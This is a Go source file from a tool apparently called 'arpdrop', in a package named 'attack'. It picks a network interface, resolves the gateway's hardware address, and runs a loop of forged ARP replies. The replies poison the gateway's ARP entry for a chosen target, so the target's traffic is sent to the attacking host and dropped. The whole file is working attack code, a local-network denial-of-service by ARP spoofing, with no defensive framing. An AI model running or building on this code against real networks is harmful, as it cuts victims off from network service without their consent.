package attack

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"time"

	"firestige.xyz/arpdrop/internal/core"
	"firestige.xyz/arpdrop/internal/link"
	"firestige.xyz/arpdrop/internal/log"
)

// Options selects the interface and the pair of hosts to separate.
type Options struct {
	InterfaceIndex int
	Target         netip.Addr
	Gateway        netip.Addr

	Interval    time.Duration // 0 = DefaultInterval
	ReportEvery int
}

// Host is the attacking host's identity on the selected interface.
type Host struct {
	Interface core.Interface
	IP        netip.Addr
	MAC       core.MAC
}

// SelectHost finds the interface with the given index and derives the host's
// IPv4 and MAC addresses from it.
func SelectHost(p link.Provider, index int) (Host, error) {
	ifaces, err := p.Interfaces()
	if err != nil {
		return Host{}, err
	}

	var iface *core.Interface
	for i := range ifaces {
		if ifaces[i].Index == index {
			iface = &ifaces[i]
			break
		}
	}
	if iface == nil {
		return Host{}, fmt.Errorf("%w: index %d", core.ErrInvalidInterface, index)
	}
	if iface.MAC == nil {
		return Host{}, fmt.Errorf("%w: %s", core.ErrMissingMAC, iface.Name)
	}
	ip, ok := iface.IPv4()
	if !ok {
		return Host{}, fmt.Errorf("%w on %s", core.ErrNoIPv4, iface.Name)
	}
	return Host{Interface: *iface, IP: ip, MAC: *iface.MAC}, nil
}

// DropTraffic resolves the gateway's MAC and then poisons the gateway's ARP
// entry for the target, so traffic for the target is delivered to this host
// and dropped. It returns only on a fatal error or when ctx is done.
func DropTraffic(ctx context.Context, p link.Provider, opts Options) error {
	if !opts.Target.Is4() {
		return fmt.Errorf("%w: target %s", core.ErrInvalidAddress, opts.Target)
	}
	if !opts.Gateway.Is4() {
		return fmt.Errorf("%w: gateway %s", core.ErrInvalidAddress, opts.Gateway)
	}

	host, err := SelectHost(p, opts.InterfaceIndex)
	if err != nil {
		return err
	}

	logger := log.GetLogger().WithField("interface", host.Interface.Name)
	logger.WithFields(log.Fields{
		"host_mac": host.MAC.String(),
		"host_ip":  host.IP.String(),
	}).Info("host addresses")

	ch, err := p.Open(host.Interface)
	if err != nil {
		if errors.Is(err, core.ErrUnsupportedChannel) {
			return err
		}
		return fmt.Errorf("%w: %w", core.ErrChannelOpen, err)
	}
	defer ch.Close()

	logger.WithField("gateway", opts.Gateway.String()).Info("requesting gateway address")
	resolver := NewResolver()
	gatewayMAC, err := resolver.Resolve(ctx, ch, host.IP, host.MAC, opts.Gateway)
	if err != nil {
		return fmt.Errorf("failed to resolve gateway %s: %w", opts.Gateway, err)
	}
	logger.WithFields(log.Fields{
		"gateway_mac": gatewayMAC.String(),
		"discarded":   resolver.Discarded(),
	}).Info("gateway resolved")

	logger.WithFields(log.Fields{
		"target":      opts.Target.String(),
		"host_mac":    host.MAC.String(),
		"gateway":     opts.Gateway.String(),
		"gateway_mac": gatewayMAC.String(),
	}).Info("dropping traffic")

	spoofer := NewSpoofer(opts.Interval, opts.ReportEvery)
	err = spoofer.Run(ctx, ch, opts.Target, host.MAC, opts.Gateway, gatewayMAC)
	logger.WithField("sent", spoofer.Sent()).Info("forged reply loop stopped")
	return err
}
